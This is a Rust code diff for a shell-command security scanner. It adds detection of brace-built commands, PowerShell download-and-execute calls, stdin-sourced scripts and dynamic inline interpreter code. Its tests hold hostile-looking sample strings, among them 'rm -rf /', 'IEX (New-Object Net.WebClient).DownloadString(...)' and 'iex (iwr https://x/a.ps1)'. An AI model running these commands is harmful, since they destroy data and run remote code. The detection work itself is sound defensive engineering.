@@ -89,6 +89,32 @@ pub(super) fn command_word(c: &Call<'_, '_>, out: &mut Out) -> bool {
         &finding::DYNAMIC_CODE_EXECUTION,
         format!("the command name {} is only known at run time", shown(text)),
     );
+    // `{rm,-rf,/}`: brace expansion builds the words; check the expanded command too.
+    if w.glob && !w.dynamic && text.starts_with('{') {
+        if let Some(words) = crate::analysis::paths::expand_braces(text, 64) {
+            let built: Vec<Word> = words
+                .into_iter()
+                .map(|t| Word {
+                    text: t,
+                    ..Word::default()
+                })
+                .collect();
+            let line = super::argv_text(built.iter().chain(c.args.iter().copied()));
+            out.payload(Dialect::Posix, line, "brace expansion", false);
+        }
+    }
+    // `IEX(New-Object Net.WebClient).DownloadString(…)` lexes as one word.
+    let lower = text.to_ascii_lowercase();
+    let invoked = ["iex(", "invoke-expression(", "iex (", "&("]
+        .iter()
+        .find_map(|p| lower.strip_prefix(p));
+    if invoked.is_some_and(|rest| fetches_remote_text(&format!("({rest}"))) {
+        out.effects().network = true;
+        out.add(
+            &finding::REMOTE_SCRIPT_EXECUTION,
+            "`Invoke-Expression` runs text downloaded from the network",
+        );
+    }
     true
 }
 
@@ -105,7 +131,13 @@ pub(super) fn apply(c: &Call<'_, '_>, out: &mut Out) {
         }
         "source" | "." => {
             if let Some(f) = c.args.first() {
-                interpreter_file(out, "`source`", &f.text);
+                if is_stdin_path(&f.text) {
+                    // `source /dev/stdin <<< "…"`: runs what stdin carries.
+                    out.not_read_only();
+                    out.effects().runs_stdin = true;
+                } else {
+                    interpreter_file(out, "`source`", &f.text);
+                }
             }
         }
         "cmd" => cmd_host(c, out),
@@ -204,6 +236,35 @@ fn subst(c: &Call<'_, '_>, text: &str) -> String {
         _ => "$FOUND".to_owned(),
     };
     text.replace("{}", &rep)
+}
+
+/// PowerShell text that downloads content (`(New-Object Net.WebClient).DownloadString(…)`,
+/// `(iwr …)`, `(irm …).Content`, `(Invoke-WebRequest …)`).
+fn fetches_remote_text(t: &str) -> bool {
+    let lower = t.to_ascii_lowercase();
+    if lower.contains("downloadstring") || lower.contains("downloaddata") {
+        return true;
+    }
+    let inner = lower.trim_start_matches(['(', '$', ' ']);
+    [
+        "iwr ",
+        "irm ",
+        "invoke-webrequest",
+        "invoke-restmethod",
+        "curl ",
+        "wget ",
+        "start-bitstransfer",
+    ]
+    .iter()
+    .any(|p| inner.starts_with(p))
+}
+
+/// A script path that is the process's own stdin.
+fn is_stdin_path(t: &str) -> bool {
+    matches!(
+        t,
+        "/dev/stdin" | "/proc/self/fd/0" | "/dev/fd/0" | "-" | "/proc/$$/fd/0"
+    )
 }
 
 fn interpreter_file(out: &mut Out, who: &str, file: &str) {
@@ -306,7 +367,7 @@ fn posix_shell(c: &Call<'_, '_>, out: &mut Out) {
     match rest.first() {
         Some(script) if !has_s => {
             let t = script.text.as_str();
-            if t == "/dev/stdin" || t == "/proc/self/fd/0" {
+            if is_stdin_path(t) {
                 out.effects().runs_stdin = true;
             } else {
                 interpreter_file(out, &format!("`{}`", c.prog), t);
@@ -474,6 +535,16 @@ fn powershell(c: &Call<'_, '_>, out: &mut Out) {
                 .map(|w| w.text.as_str())
                 .filter(|t| !t.eq_ignore_ascii_case("-command"))
                 .collect();
+            if c.args
+                .iter()
+                .any(|w| !w.fully_quoted && fetches_remote_text(&w.text))
+            {
+                out.effects().network = true;
+                out.add(
+                    &finding::REMOTE_SCRIPT_EXECUTION,
+                    "`Invoke-Expression` runs text downloaded from the network",
+                );
+            }
             if text.is_empty() {
                 out.effects().runs_stdin = true;
             } else {
@@ -717,6 +788,20 @@ fn run_interpreter(c: &Call<'_, '_>, out: &mut Out, lang: Lang) {
     let via = via(c.prog, lang);
     match source {
         Source::Code(parts) => {
+            for code in &parts {
+                // `python3 -c "$PAYLOAD"`: the program itself is only known at run time (as
+                // strict as `bash -c "$CMD"`, whose command word is).
+                let built = c.args.iter().any(|w| {
+                    w.dynamic && w.text == *code && code.trim_start().starts_with(['$', '`'])
+                });
+                if built {
+                    out.not_read_only();
+                    out.add(
+                        &finding::DYNAMIC_CODE_EXECUTION,
+                        format!("`{}` runs inline code only known at run time", c.prog),
+                    );
+                }
+            }
             for code in parts {
                 inline_code(c, out, lang, &code, via);
             }
@@ -738,6 +823,15 @@ fn run_interpreter(c: &Call<'_, '_>, out: &mut Out, lang: Lang) {
         Source::Module(at) => {
             if let Some(rest) = c.args.get(at..) {
                 c.sub_check(out, rest, false);
+            }
+        }
+        Source::File(f) if is_stdin_path(f) => {
+            out.not_read_only();
+            out.effects().runs_stdin = true;
+            if let Some(text) = c.ctx.stdin_text {
+                if lang != Lang::Awk {
+                    inline_code(c, out, lang, text, via);
+                }
             }
         }
         Source::File(f) => {
@@ -1186,6 +1280,14 @@ mod tests {
     }
 
     #[test]
+    fn brace_built_command_words_are_expanded() {
+        assert_has("{rm,-rf,/}", &DYNAMIC_CODE_EXECUTION);
+        assert_eq!(payloads("{rm,-rf,/}"), ["rm -rf /"]);
+        assert_eq!(payloads("{rm,-rf} /tmp/x"), ["rm -rf /tmp/x"]);
+        assert_deep_critical("{rm,-rf,/}");
+    }
+
+    #[test]
     fn dynamic_command_words() {
         for s in [
             "$R -rf x",
@@ -1331,6 +1433,28 @@ mod tests {
     }
 
     #[test]
+    fn invoke_expression_of_a_download() {
+        for s in [
+            "Invoke-Expression (New-Object Net.WebClient).DownloadString('https://x/a.ps1')",
+            "IEX(New-Object Net.WebClient).downloadString('http://x/a')",
+            "iex (iwr https://x/a.ps1)",
+            "iex (irm https://x/a.ps1)",
+            "IEX (Invoke-WebRequest -Uri https://x/a).Content",
+        ] {
+            assert_has_in(
+                crate::analysis::shell::command::Dialect::PowerShell,
+                s,
+                &REMOTE_SCRIPT_EXECUTION,
+            );
+        }
+        assert_not_in(
+            crate::analysis::shell::command::Dialect::PowerShell,
+            "iex 'Get-Date'",
+            &REMOTE_SCRIPT_EXECUTION,
+        );
+    }
+
+    #[test]
     fn powershell_dynamic() {
         assert_has("iex 'Remove-Item x'", &DYNAMIC_CODE_EXECUTION);
         assert_eq!(
@@ -1360,6 +1484,16 @@ mod tests {
     #[test]
     fn python_inline() {
         assert_has("python -c 'print(1)'", &INLINE_INTERPRETER);
+        // Inline code that is only known at run time is as strict as `bash -c "$CMD"`.
+        for s in [
+            "python3 -c \"$PAYLOAD\"",
+            "perl -e \"$X\"",
+            "ruby -e \"${CODE}\"",
+            "node -e \"$(cat x)\"",
+        ] {
+            assert_has(s, &DYNAMIC_CODE_EXECUTION);
+        }
+        assert_not_critical("python3 -c \"print('$X')\"");
         assert_not_critical("python3 -c 'print(1)'");
         assert_eq!(
             payloads("python -c \"import os; os.system('rm -rf /')\""),
